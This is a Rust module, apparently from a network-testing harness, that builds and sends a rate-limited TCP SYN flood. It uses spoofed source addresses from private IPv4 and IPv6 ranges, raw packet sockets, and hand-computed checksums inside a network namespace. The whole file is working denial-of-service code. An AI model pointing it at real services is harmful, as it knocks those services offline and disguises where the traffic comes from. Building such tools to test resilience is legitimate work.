//! A SYN flood from made-up addresses, as raw frames: so many, so fast, and no faster.
//!
//! The addresses are out of two private networks, [`NETWORKS`], which nobody in a picture has. Answers to them
//! need a [route](crate::topology::Topology::route_to_client) to the client, who does not answer those.

use std::io::IoSlice;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use nix::errno::Errno;
use nix::sys::socket::{
    AddressFamily, LinkAddr, MsgFlags, MultiHeaders, SockFlag, SockType, bind, sendmmsg, socket,
};

use crate::netns::Netns;

/// Where the flood seems to come from.
pub const NETWORKS: [&str; 2] = ["10.128.0.0/9", "fdff::/16"];

/// Frames that are handed to the kernel at once.
const BATCH: usize = 64;
const ETHERNET: usize = 14;
const TCP: usize = 20;
const SYN: u8 = 2;
const PROTOCOL: u8 = 6;

/// A flood.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// The service that is flooded.
    pub address: SocketAddr,
    /// The MAC address of the next hop, as [`mac`] tells it.
    pub next_hop: [u8; 6],
    /// How many frames.
    pub count: u64,
    /// How many of them in a second at most.
    pub rate: u64,
}

/// The MAC address of an interface.
pub fn mac(netns: &Netns, interface: &str) -> Result<[u8; 6]> {
    link(netns, interface)?.addr().context("an interface without a MAC address")
}

impl Flood {
    /// Sends it all from an interface inside a namespace, unless `go_on` says no before. Returns
    /// how many frames were sent, and how long that took.
    pub fn run(
        &self,
        netns: &Netns,
        interface: &str,
        go_on: impl Fn() -> bool + Send,
    ) -> Result<(u64, Duration)> {
        let from = link(netns, interface)?;
        let own = from.addr().context("an interface without a MAC address")?;
        let socket = netns.run(|| {
            // Without a protocol, it receives nothing.
            let socket =
                socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)?;
            bind(socket.as_raw_fd(), &from)?;
            Ok(socket)
        })?;
        let mut frames: Vec<Vec<u8>> = (0..BATCH).map(|_| self.frame(own)).collect();
        let mut random = fastrand::Rng::new();
        let start = Instant::now();
        let mut sent = 0;
        while sent < self.count && go_on() {
            let wanted = BATCH.min(usize::try_from(self.count - sent)?);
            for frame in frames.iter_mut().take(wanted) {
                self.make_up(frame, &mut random);
            }
            sent += send(&socket, frames.get(..wanted).unwrap_or_default())? as u64;
            let due = Duration::from_nanos(sent.saturating_mul(1_000_000_000) / self.rate.max(1));
            std::thread::sleep(due.saturating_sub(start.elapsed()));
        }
        Ok((sent, start.elapsed()))
    }

    /// A SYN without the sender and the checksums.
    fn frame(&self, own: [u8; 6]) -> Vec<u8> {
        let mut frame = Vec::new();
        frame.extend_from_slice(&self.next_hop);
        frame.extend_from_slice(&own);
        match self.address.ip() {
            IpAddr::V4(to) => {
                frame.extend_from_slice(&[0x08, 0x00]);
                // Version and length, type of service, total length, id, do not fragment.
                frame.extend_from_slice(&[0x45, 0, 0, 40, 0, 0, 0x40, 0]);
                // Time to live, protocol, checksum, sender.
                frame.extend_from_slice(&[64, PROTOCOL, 0, 0, 0, 0, 0, 0]);
                frame.extend_from_slice(&to.octets());
            }
            IpAddr::V6(to) => {
                frame.extend_from_slice(&[0x86, 0xdd]);
                // Version, length of what follows, next header, hop limit.
                frame.extend_from_slice(&[0x60, 0, 0, 0, 0, TCP as u8, PROTOCOL, 64]);
                frame.extend_from_slice(&[0; 16]);
                frame.extend_from_slice(&to.octets());
            }
        }
        frame.extend_from_slice(&[0, 0]);
        frame.extend_from_slice(&self.address.port().to_be_bytes());
        // Sequence number, acknowledgement, offset and flags, window, checksum, urgent pointer.
        frame.extend_from_slice(&[0; 8]);
        frame.extend_from_slice(&[0x50, SYN, 0xff, 0xff, 0, 0, 0, 0]);
        frame
    }

    /// Another sender, another sequence number, and the checksums.
    fn make_up(&self, frame: &mut [u8], random: &mut fastrand::Rng) {
        let (ip, addresses, sender): (_, _, &[u8]) = match self.address {
            SocketAddr::V4(_) => {
                let [b, c, d, ..] = random.u32(..).to_be_bytes();
                (20, 12, &[10, b | 0x80, c, d])
            }
            SocketAddr::V6(_) => {
                let mut sender = [0; 16];
                random.fill(&mut sender);
                sender[..2].copy_from_slice(&[0xfd, 0xff]);
                (40, 8, &sender.clone())
            }
        };
        let Some((header, tcp)) =
            frame.get_mut(ETHERNET..).and_then(|packet| packet.split_at_mut_checked(ip))
        else {
            return;
        };
        write(header, addresses, sender);
        if self.address.is_ipv4() {
            write(header, 10, &[0, 0]);
            write(header, 10, &(!sum(0, header)).to_be_bytes());
        }
        write(tcp, 0, &random.u16(1024..).to_be_bytes());
        write(tcp, 4, &random.u32(..).to_be_bytes());
        write(tcp, 16, &[0, 0]);
        let pseudo = sum(u32::from(PROTOCOL) + TCP as u32, header.get(addresses..).unwrap_or(&[]));
        write(tcp, 16, &(!sum(pseudo.into(), tcp)).to_be_bytes());
    }
}

/// Hands frames to the kernel; how many it took.
fn send(socket: &OwnedFd, frames: &[Vec<u8>]) -> Result<usize> {
    let slices: Vec<[IoSlice<'_>; 1]> = frames.iter().map(|frame| [IoSlice::new(frame)]).collect();
    let mut headers = MultiHeaders::<LinkAddr>::preallocate(frames.len(), None);
    let nobody = vec![None; frames.len()];
    let fd = socket.as_raw_fd();
    match sendmmsg(fd, &mut headers, &slices, nobody, [], MsgFlags::empty()) {
        Ok(results) => Ok(results.count()),
        Err(Errno::ENOBUFS | Errno::EAGAIN) => {
            std::thread::sleep(Duration::from_millis(1));
            Ok(0)
        }
        Err(error) => Err(error).context("the flood could not be sent"),
    }
}

/// The link-layer address of an interface, which is what a packet socket is bound to.
fn link(netns: &Netns, interface: &str) -> Result<LinkAddr> {
    netns.run(|| {
        let found = nix::ifaddrs::getifaddrs()?
            .filter(|entry| entry.interface_name == interface)
            .find_map(|entry| entry.address?.as_link_addr().copied());
        found.with_context(|| format!("no interface {interface}"))
    })
}

fn write(bytes: &mut [u8], offset: usize, value: &[u8]) {
    if let Some(place) = bytes.get_mut(offset..offset + value.len()) {
        place.copy_from_slice(value);
    }
}

/// The ones' complement sum of RFC 1071 over an even number of bytes.
fn sum(start: u32, bytes: &[u8]) -> u16 {
    let words = bytes.as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_be_bytes(*word)));
    let mut sum = words.fold(start, |sum, word| sum + word);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    sum as u16
}
